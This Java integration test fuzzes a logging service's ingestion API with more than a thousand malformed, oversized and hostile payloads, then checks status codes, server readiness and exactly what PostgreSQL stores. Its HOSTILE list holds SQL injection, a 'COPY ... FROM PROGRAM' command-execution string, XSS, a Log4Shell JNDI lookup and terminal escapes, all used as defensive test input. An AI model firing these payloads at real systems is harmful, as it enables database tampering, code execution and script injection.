package org.phong.zenflow.logging.it;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import jakarta.json.spi.JsonProvider;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.phong.zenflow.logging.security.InputLimits;
import org.phong.zenflow.logging.testing.JsonTree;

/**
 * The bad-input suite: over a thousand generated malformed, oversized, wrongly typed, deeply nested
 * and hostile payloads (NUL, tabs, newlines, backslashes, COPY markers, broken UTF-8, unpaired
 * surrogates, SQL and HTML fragments in every field) are posted to ingestion. Each gets exactly
 * the status its case expects (a 4xx naming the field where there is one, or a 202 when the entry
 * is valid, possibly after truncation); the server stays ready throughout; and PostgreSQL then
 * holds exactly the valid entries, each stored byte for byte as sent (modulo the documented NUL /
 * surrogate replacement and message truncation) and read back as valid JSON.
 *
 * <p>Every payload uses this test's own workflow id, so a leaked invalid entry would show up in the
 * count. Deterministic (fixed seed); about 1,100 requests from 4 threads.
 */
class BadInputIT {
    private static final JsonProvider JSON = JsonProvider.provider();
    private static final int MESSAGE_MAX = 32768;   // zenflow.logging.limits.message-max-chars default
    private static final int NODE_KEY_MAX = 256;
    private static final int METADATA_MAX_DEPTH = 16;
    private static final long SEED = 20261128L;
    private static final int GENERATED_HOSTILE_VALID = 420;
    private static final int GENERATED_BROKEN = 420;
    private static final int THREADS = 4;

    /** Text that has broken COPY streams, SQL, HTML and terminals somewhere. */
    private static final String[] HOSTILE = {
        "\u0000", "\t", "\n", "\r\n", "\r", "\\", "\\.", "\\N", "\\\\N", "\\.\n", "a\u0000b\tc\nd\\e",
        "'; DROP TABLE logs; --", "\" OR 1=1 --", "'||(SELECT version())||'", "$$; SELECT pg_sleep(10); $$",
        "E'\\x00'", "COPY logs FROM PROGRAM 'id'", "\\copy logs to '/tmp/x'", "<script>alert(1)</script>",
        "</textarea><img src=x onerror=alert(1)>", "${jndi:ldap://example.invalid/a}", "%s%n%x%d", "\u001b[31mred\u001b[0m",
        "\u007f", "\u0085", "\u2028\u2029", "\ufeff", "\ud83d\ude00", "\ud800", "\udfff", "x\ud83dy", "\u00e9\u4e2d\u0416",
        "{\"json\":\"in text\"}", "[1,2", "null", "\u0001\u0002\u0003\u0004\u001f", " ", "",
    };

    private enum Expect { ACCEPT, BAD_REQUEST, TOO_LARGE, UNSUPPORTED }

    /** One request of the suite. */
    private record Case(String name, String contentType, byte[] body, Expect expect, String field, UUID run, Map<String, Object> entry) {
    }

    private static final UUID WORKFLOW = UUID.randomUUID();

    @BeforeAll
    static void serverUp() throws Exception {
        ItEnvironment.awaitReady();
    }

    @Test
    void everyBadPayloadGetsItsAnswerAndOnlyValidEntriesAreStored() throws Exception {
        List<Case> cases = generate();
        assertTrue(cases.size() >= 1000, "cases: " + cases.size());
        long t0 = System.nanoTime();
        List<String> failures = Collections.synchronizedList(new ArrayList<>());
        AtomicInteger accepted = new AtomicInteger();
        Map<UUID, Map<String, Object>> stored = new ConcurrentHashMap<>();
        ExecutorService pool = Executors.newFixedThreadPool(THREADS);
        try {
            List<Future<?>> fs = new ArrayList<>();
            for (int t = 0; t < THREADS; t++) {
                final int slice = t;
                fs.add(pool.submit(() -> {
                    for (int i = slice; i < cases.size(); i += THREADS) {
                        Case c = cases.get(i);
                        try {
                            HttpResponse<String> res = ItEnvironment.send(ItCredentials.WRITER, "POST", "/api/v1/logs", c.contentType(), c.body());
                            String problem = check(c, res);
                            if (problem != null) failures.add(i + " " + c.name() + ": " + problem);
                            if (res.statusCode() == 202) {
                                accepted.addAndGet(json(res.body()).getInt("accepted"));
                                if (c.run() != null) stored.put(c.run(), c.entry());
                            }
                        } catch (Exception e) {
                            failures.add(i + " " + c.name() + ": " + e);
                        }
                        if (i % 200 == 0) {
                            try {
                                int ready = ItEnvironment.get("/health/ready").statusCode();
                                if (ready != 200) failures.add("readiness " + ready + " after case " + i);
                            } catch (Exception e) {
                                failures.add("readiness: " + e);
                            }
                        }
                    }
                    return null;
                }));
            }
            for (Future<?> f : fs) f.get(5, java.util.concurrent.TimeUnit.MINUTES);
        } finally {
            pool.shutdown();
        }
        long sentMs = (System.nanoTime() - t0) / 1_000_000;
        assertTrue(failures.isEmpty(), failures.size() + " of " + cases.size() + " cases failed:\n"
                + String.join("\n", failures.subList(0, Math.min(40, failures.size()))));
        long valid = cases.stream().filter(c -> c.expect() == Expect.ACCEPT).count();
        assertEquals(valid, accepted.get(), "entries accepted");
        ItEnvironment.awaitReady();

        long count = awaitWorkflowRows(valid);
        // Not a sleep: once the server holds nothing undelivered, anything leaked from a refused request is in the table.
        ItEnvironment.awaitDrained(java.time.Duration.ofSeconds(120));
        assertEquals(valid, countWorkflowRows(), "rows of the suite's workflow (exactly the valid entries)");
        assertEquals(valid, count);
        int compared = compareStored(stored);
        int readBack = readBackAsJson(stored);
        System.out.printf("bad-input suite: %d payloads (%d valid, %d refused) sent in %d ms; %d rows stored and compared, "
                + "%d read back through the API%n", cases.size(), valid, cases.size() - valid, sentMs, compared, readBack);
    }

    // ---- checks ---------------------------------------------------------------------------------

    private static String check(Case c, HttpResponse<String> res) {
        int expected = switch (c.expect()) {
            case ACCEPT -> 202;
            case BAD_REQUEST -> 400;
            case TOO_LARGE -> 413;
            case UNSUPPORTED -> 415;
        };
        if (res.statusCode() != expected) return "status " + res.statusCode() + " (expected " + expected + "): " + abbreviate(res.body());
        if (c.expect() != Expect.ACCEPT) {
            String notAProblem = ProblemBody.problemWith(res);
            if (notAProblem != null) return notAProblem;
        }
        if (c.expect() == Expect.BAD_REQUEST) {
            JsonObject err = json(res.body());
            if (c.field() != null && (err.isNull("field") || !c.field().equals(err.getString("field")))) {
                return "400 names field " + err.get("field") + ", expected " + c.field() + ": " + abbreviate(res.body());
            }
        }
        if (c.expect() == Expect.ACCEPT && json(res.body()).getInt("accepted") != 1) return "not accepted: " + res.body();
        return null;
    }

    private static long awaitWorkflowRows(long expected) throws Exception {
        // a timeout names the last count
        return await("all " + expected + " valid entries stored").atMost(StoredLogs.PERSIST_TIMEOUT)
                .pollDelay(Duration.ZERO).pollInterval(Duration.ofMillis(250))
                .until(BadInputIT::countWorkflowRows, n -> n >= expected);
    }

    private static long countWorkflowRows() throws Exception {
        try (Connection c = ItEnvironment.openConnection();
             PreparedStatement ps = c.prepareStatement("SELECT count(*) FROM logs WHERE workflow_id = ?")) {
            ps.setObject(1, WORKFLOW);
            try (ResultSet rs = ps.executeQuery()) {
                rs.next();
                return rs.getLong(1);
            }
        }
    }

    /** Every stored text field equals what was sent, after the documented NUL/surrogate replacement and truncation. */
    private static int compareStored(Map<UUID, Map<String, Object>> sent) throws Exception {
        int n = 0;
        try (Connection c = ItEnvironment.openConnection();
             PreparedStatement ps = c.prepareStatement(
                     "SELECT run_id, node_key, message, error_code, trace_id, hierarchy, metadata::text FROM logs WHERE workflow_id = ?")) {
            ps.setObject(1, WORKFLOW);
            try (ResultSet rs = ps.executeQuery()) {
                while (rs.next()) {
                    UUID run = (UUID) rs.getObject(1);
                    Map<String, Object> e = sent.get(run);
                    if (e == null) throw new AssertionError("a stored row of run " + run + " was never accepted");
                    assertEquals(clean((String) e.get("nodeKey")), rs.getString(2), "nodeKey of " + run);
                    String msg = clean((String) e.get("message"));
                    assertEquals(InputLimits.truncate(msg, MESSAGE_MAX), rs.getString(3), "message of " + run);
                    assertEquals(blankToNull(clean((String) e.get("errorCode"))), rs.getString(4), "errorCode of " + run);
                    assertEquals(blankToNull(clean((String) e.get("traceId"))), rs.getString(5), "traceId of " + run);
                    assertEquals(blankToNull(clean((String) e.get("hierarchy"))), rs.getString(6), "hierarchy of " + run);
                    Object meta = e.get("metadata");
                    if (meta == null) {
                        assertEquals(null, rs.getString(7), "metadata of " + run);
                    } else {
                        JsonValue expected = JSON.createReader(new StringReader(jsonText(cleanDeep(meta)))).readValue();
                        JsonValue actual = JSON.createReader(new StringReader(rs.getString(7))).readValue();
                        assertEquals(expected, actual, "metadata of " + run);
                    }
                    n++;
                }
            }
        }
        assertEquals(sent.size(), n, "stored rows with a sent entry");
        return n;
    }

    /** The history API answers valid JSON carrying the same text (every 4th run, to keep the suite short). */
    private static int readBackAsJson(Map<UUID, Map<String, Object>> sent) throws Exception {
        int n = 0;
        int i = 0;
        for (Map.Entry<UUID, Map<String, Object>> s : sent.entrySet()) {
            if (i++ % 4 != 0) continue;
            HttpResponse<String> res = ItEnvironment.send(ItCredentials.READER, "GET", "/api/v1/runs/" + s.getKey() + "/logs", null, (String) null);
            assertEquals(200, res.statusCode(), res.body());
            JsonObject page = json(res.body());
            assertEquals(1, page.getJsonArray("entries").size(), "entries of " + s.getKey());
            String msg = clean((String) s.getValue().get("message"));
            assertEquals(InputLimits.truncate(msg, MESSAGE_MAX), page.getJsonArray("entries").getJsonObject(0).getString("message"));
            n++;
        }
        return n;
    }

    // ---- generation -----------------------------------------------------------------------------

    private static List<Case> generate() {
        Random rnd = new Random(SEED);
        List<Case> out = new ArrayList<>();
        // 1. Valid entries with hostile text in every field (and in metadata keys and values).
        for (int i = 0; i < GENERATED_HOSTILE_VALID; i++) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put("nodeKey", "n" + hostile(rnd, 3));
            e.put("message", hostile(rnd, 6));
            e.put("errorCode", hostile(rnd, 2));
            e.put("traceId", hostile(rnd, 2));
            e.put("hierarchy", "root/" + hostile(rnd, 3));
            Map<String, Object> meta = new LinkedHashMap<>();
            meta.put("k" + hostile(rnd, 2), hostile(rnd, 3));
            meta.put("nested", Map.of("v", hostile(rnd, 2)));
            meta.put("list", List.of(hostile(rnd, 1), hostile(rnd, 1)));
            e.put("metadata", meta);
            e.put("level", List.of("DEBUG", "INFO", "WARN", "ERROR", "info", "Warn").get(rnd.nextInt(6)));
            boolean ndjson = i % 3 == 0;
            out.add(accept("hostile-valid" + (ndjson ? "-ndjson" : ""), ndjson, e));
        }
        // 2. Messages over the limit: accepted, truncated with a marker.
        for (int i = 0; i < 30; i++) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put("message", hostile(rnd, 2) + "m".repeat(MESSAGE_MAX + rnd.nextInt(3 * MESSAGE_MAX)) + "\ud83d\ude00" + hostile(rnd, 2));
            out.add(accept("long-message", false, e));
        }
        // 3. Systematically broken entries: each field missing, of each wrong type, or over a limit.
        String[] required = {"workflowId", "runId", "nodeKey", "level", "message"};
        Object[] wrongTypes = {42, 1.5, true, List.of("x"), Map.of("a", "b")};
        String[] textFields = {"workflowId", "runId", "nodeKey", "level", "message", "errorCode", "traceId", "hierarchy"};
        for (String f : required) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.remove(f);
            out.add(bad("missing-" + f, e, f));
            e = validEntry(UUID.randomUUID());
            e.put(f, null);
            out.add(bad("null-" + f, e, f));
        }
        for (String f : textFields) {
            for (Object w : wrongTypes) {
                Map<String, Object> e = validEntry(UUID.randomUUID());
                e.put(f, w);
                out.add(bad("type-" + f + "-" + w.getClass().getSimpleName(), e, f));
            }
        }
        for (Object w : new Object[] {"text", 42, List.of(1), true}) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put("metadata", w);
            out.add(bad("metadata-" + w.getClass().getSimpleName(), e, "metadata"));
        }
        for (Object w : new Object[] {true, List.of(1), Map.of(), "yesterday", "2026-11-28", "2026-13-01T00:00:00Z", 1.5,
                "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", 253402300799999L, -62135596800000L, "2099-01-01T00:00:00Z",
                "1970-01-01T00:00:00Z", Long.MAX_VALUE, "+999999999-12-31T23:59:59Z"}) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put("ts", w);
            out.add(bad("ts-" + w, e, "ts"));
        }
        for (String f : new String[] {"nodeKey", "errorCode", "traceId", "hierarchy"}) {
            int max = switch (f) { case "nodeKey" -> NODE_KEY_MAX; case "hierarchy" -> 2048; default -> 128; };
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put(f, "x".repeat(max + 1));
            out.add(bad("too-long-" + f, e, f));
            Map<String, Object> ok = validEntry(UUID.randomUUID());
            ok.put(f, "y".repeat(max));
            out.add(accept("at-limit-" + f, false, ok));
        }
        for (int depth : new int[] {METADATA_MAX_DEPTH + 1, METADATA_MAX_DEPTH + 5, 100, 900}) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put("metadata", nested(depth));
            out.add(bad("metadata-depth-" + depth, e, "metadata"));
        }
        Map<String, Object> deepOk = validEntry(UUID.randomUUID());
        deepOk.put("metadata", nested(METADATA_MAX_DEPTH));
        out.add(accept("metadata-depth-at-limit", false, deepOk));
        Map<String, Object> bigMeta = validEntry(UUID.randomUUID());
        bigMeta.put("metadata", Map.of("blob", "b".repeat(70_000)));
        out.add(bad("metadata-too-large", bigMeta, "metadata"));
        for (String u : new String[] {"not-a-uuid", "'; DROP TABLE logs;--", "<script>", "00000000-0000-0000-0000-00000000000g",
                "{0000000-0000-0000-0000-000000000000}", "0-0-0-0-0", "\u0000", ""}) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put("runId", u);
            out.add(bad("uuid-" + u, e, "runId"));
        }
        for (String l : new String[] {"LOUD", "TRACE", "FATAL", "<b>ERROR</b>", "ERROR'--", "IN\u0000FO", ""}) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put("level", l);
            out.add(bad("level-" + l, e, "level"));
        }
        // 4. Malformed documents and raw bytes.
        String[] malformed = {"", " ", "{", "[", "[{]", "{\"a\":}", "[1,2,3]", "\"text\"", "42", "true", "[null]", "[[]]",
            "{\"workflowId\":\"x\"", "[{\"a\":1},]", "[{}]x", "{}{}", "NaN", "[{\"a\":1e999999999}]", "\u0000", "<xml/>",
            "[" + "[".repeat(5000) + "]".repeat(5000) + "]", "{\"a\":" + "{\"b\":".repeat(3000) + "1" + "}".repeat(3001)};
        for (String m : malformed) out.add(new Case("malformed", "application/json", m.getBytes(StandardCharsets.UTF_8), Expect.BAD_REQUEST, null, null, null));
        byte[][] brokenUtf8 = {{(byte) 0xC3}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF},
            {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}, {(byte) 0x80}};
        for (int i = 0; i < brokenUtf8.length * 6; i++) {
            byte[] bad = brokenUtf8[i % brokenUtf8.length];
            String field = textFields[2 + i / brokenUtf8.length % 6];
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put(field, "@@BROKEN@@");
            byte[] body = splice(jsonText(List.of(e)).getBytes(StandardCharsets.UTF_8), "@@BROKEN@@".getBytes(StandardCharsets.UTF_8), bad);
            out.add(new Case("broken-utf8-in-" + field, i % 2 == 0 ? "application/json" : "application/x-ndjson", body, Expect.BAD_REQUEST, null, null, null));
        }
        // 5. Random corruption of valid documents: truncation, byte flips to structural characters.
        for (int i = 0; i < GENERATED_BROKEN; i++) {
            Map<String, Object> e = validEntry(UUID.randomUUID());
            e.put("message", hostile(rnd, 2));
            String text = jsonText(List.of(e));
            String broken = switch (i % 4) {
                case 0 -> text.substring(0, 1 + rnd.nextInt(text.length() - 2));             // truncated
                case 1 -> text.replaceFirst("\"runId\":\"", "\"runId\":");                       // unquoted value
                case 2 -> text.replace("\"level\":\"", "\"level\":\"" + "\\q");                  // invalid escape
                default -> text.substring(0, text.length() - 1) + ",{\"workflowId\":" + rnd.nextInt() + "}]"; // 2nd entry bad
            };
            String field = i % 4 == 3 ? "workflowId" : null;
            out.add(new Case("corrupted-" + i % 4, "application/json", broken.getBytes(StandardCharsets.UTF_8), Expect.BAD_REQUEST, field, null, null));
        }
        // 6. Whole-request limits and content types.
        out.add(new Case("body-over-10MiB", "application/json", ("[\"" + "x".repeat(10 * 1024 * 1024 + 10) + "\"]").getBytes(StandardCharsets.UTF_8),
                Expect.TOO_LARGE, null, null, null));
        StringBuilder many = new StringBuilder("[");
        for (int i = 0; i <= 10_000; i++) many.append(i == 0 ? "" : ",").append("{}");
        out.add(new Case("entries-over-limit", "application/json", many.append(']').toString().getBytes(StandardCharsets.UTF_8), Expect.TOO_LARGE, null, null, null));
        for (String type : new String[] {"text/plain", "application/xml", "application/x-www-form-urlencoded"}) {
            out.add(new Case("content-type-" + type, type, jsonText(List.of(validEntry(UUID.randomUUID()))).getBytes(StandardCharsets.UTF_8),
                    Expect.UNSUPPORTED, null, null, null));
        }
        return out;
    }

    private static Map<String, Object> validEntry(UUID run) {
        Map<String, Object> e = new LinkedHashMap<>();
        e.put("workflowId", WORKFLOW.toString());
        e.put("runId", run.toString());
        e.put("nodeKey", "node");
        e.put("level", "INFO");
        e.put("message", "m");
        return e;
    }

    private static Case accept(String name, boolean ndjson, Map<String, Object> e) {
        String text = ndjson ? jsonText(e) + "\n" : jsonText(List.of(e));
        return new Case(name, ndjson ? "application/x-ndjson" : "application/json", text.getBytes(StandardCharsets.UTF_8),
                Expect.ACCEPT, null, UUID.fromString((String) e.get("runId")), e);
    }

    private static Case bad(String name, Map<String, Object> e, String field) {
        return new Case(name, "application/json", jsonText(List.of(e)).getBytes(StandardCharsets.UTF_8), Expect.BAD_REQUEST, field, null, null);
    }

    private static String hostile(Random rnd, int parts) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < parts; i++) b.append(HOSTILE[rnd.nextInt(HOSTILE.length)]).append(rnd.nextInt(100));
        return b.toString();
    }

    /** A metadata object nested {@code depth} containers deep (the object itself is depth 1), objects and arrays alternating. */
    private static Object nested(int depth) {
        Object v = "leaf";
        for (int i = 1; i < depth; i++) v = i % 2 == 0 ? Map.of("d", v) : List.of(v);
        return Map.of("d", v);
    }

    private static byte[] splice(byte[] text, byte[] marker, byte[] replacement) {
        String s = new String(text, StandardCharsets.ISO_8859_1);
        int at = s.indexOf(new String(marker, StandardCharsets.ISO_8859_1));
        byte[] out = new byte[text.length - marker.length + replacement.length];
        System.arraycopy(text, 0, out, 0, at);
        System.arraycopy(replacement, 0, out, at, replacement.length);
        System.arraycopy(text, at + marker.length, out, at + replacement.length, text.length - at - marker.length);
        return out;
    }

    // ---- a tiny JSON writer that can express what JSON-P writers cannot: unpaired surrogates as \\uXXXX ----

    static String jsonText(Object v) {
        return JsonTree.write(v, BadInputIT::scalar);
    }

    /** Strings with unpaired surrogates and controls as \\uXXXX (surrogate pairs as they are); anything else as it prints. */
    private static void scalar(StringBuilder b, Object v) {
        if (v instanceof String s) {
            b.append('"');
            for (int i = 0; i < s.length(); i++) {
                char c = s.charAt(i);
                boolean pair = Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1));
                if (pair) {
                    b.append(c).append(s.charAt(++i));
                } else if (c == '"' || c == '\\') {
                    b.append('\\').append(c);
                } else if (c < 0x20 || Character.isSurrogate(c)) {
                    b.append(String.format("\\u%04x", (int) c));
                } else {
                    b.append(c);
                }
            }
            b.append('"');
        } else {
            b.append(v);
        }
    }

    /** What LogEntry stores for a text: NUL and unpaired surrogates become U+FFFD. */
    private static String clean(String s) {
        if (s == null) return null;
        StringBuilder b = new StringBuilder(s.length());
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
                b.append(c).append(s.charAt(++i));
            } else if (c == 0 || Character.isSurrogate(c)) {
                b.append('\uFFFD');
            } else {
                b.append(c);
            }
        }
        return b.toString();
    }

    /** {@link #clean} applied to every string (member names included) of a JSON-like value. */
    private static Object cleanDeep(Object v) {
        if (v instanceof String s) return clean(s);
        if (v instanceof Map<?, ?> m) {
            Map<String, Object> out = new LinkedHashMap<>();
            m.forEach((k, x) -> out.put(clean((String) k), cleanDeep(x)));
            return out;
        }
        if (v instanceof List<?> l) return l.stream().map(BadInputIT::cleanDeep).toList();
        return v;
    }

    private static String blankToNull(String s) {
        return s == null || s.isBlank() ? null : s;
    }

    private static JsonObject json(String body) {
        return JSON.createReader(new StringReader(body)).readObject();
    }

    private static String abbreviate(String s) {
        return s.length() > 300 ? s.substring(0, 300) + "..." : s;
    }

}
